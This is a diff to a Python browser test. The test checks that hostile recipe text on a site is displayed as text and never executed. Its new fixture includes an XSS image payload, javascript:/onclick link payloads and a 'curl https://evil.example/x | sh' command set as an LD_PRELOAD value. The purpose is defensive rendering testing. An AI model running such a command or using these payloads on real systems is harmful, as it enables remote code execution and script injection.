@@ -1,7 +1,7 @@
 """Hostile recipe text in a real browser: it is shown as text, and nothing in it runs or loads.
 
 The catalogue here holds the seed and one recipe whose every Markdown field, free-text field,
-environment value and launch script carries attempts to get markup past the renderer: a fence
+environment value, launch script and withheld variable carries attempts to get markup past the renderer: a fence
 with attributes inside an indented code sample (which once made the site's own Markdown build a
 chart element whose script address came from the recipe), off-host script and image addresses,
 raw HTML, attribute lists, javascript: links. Each page that shows the recipe is opened in
@@ -76,6 +76,10 @@ LINKS = (
     f"{EVIL}/a'onclick='alert(14)"
 )
 
+# A variable the publisher's files set that the launch does not export: its value is shown in a warning.
+WITHHELD = "<img src=x onerror=alert(15)> $(curl -s https://evil.example/x | sh)"
+COMMIT = "a" * 40
+
 
 def _set(data: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
     for key in path[:-1]:
@@ -107,6 +111,18 @@ def hostile_site(
         data["result"]["usd_per_million_tokens"] = None
         data["stack"]["framework"] = FRAMEWORK
         data["result"]["mfu_note"] = LINKS
+        data["launch"] = {
+            "kind": "documented",
+            "source": {
+                "repository": "evil/repo",
+                "commit": COMMIT,
+                "files": [{"path": "run.sh", "url": f"https://github.com/evil/repo/blob/{COMMIT}/run.sh"}],
+            },
+            "checkout": f"git clone https://github.com/evil/repo.git\ncd repo\ngit switch --detach {COMMIT}\n",
+            "command": "bash run.sh\n",
+            "inputs": [],
+            "withheld": [{"name": "LD_PRELOAD", "value": WITHHELD, "file": "run.sh", "line": 1}],
+        }
         project.add(HOSTILE_ID, data)
         with pytest.MonkeyPatch.context() as patch:
             patch.setattr(pages, "HOME_ROWS", 1)
@@ -170,6 +186,7 @@ def test_the_recipe_text_is_shown_as_text(tab: Any, hostile_site: str) -> None:
     text = tab.inner_text("article")
     for fragment in VISIBLE:
         assert fragment in text
+    assert f"LD_PRELOAD={WITHHELD}, set by run.sh line 1" in text
     # The launch script is the file's text, byte for byte, as the reader copies it.
     script = tab.eval_on_selector_all("article pre code", "codes => codes.map(c => c.textContent)")
     assert any(code == ALL + "\n" + FENCE_IN_CODE_SAMPLE.replace("    ", "") for code in script)
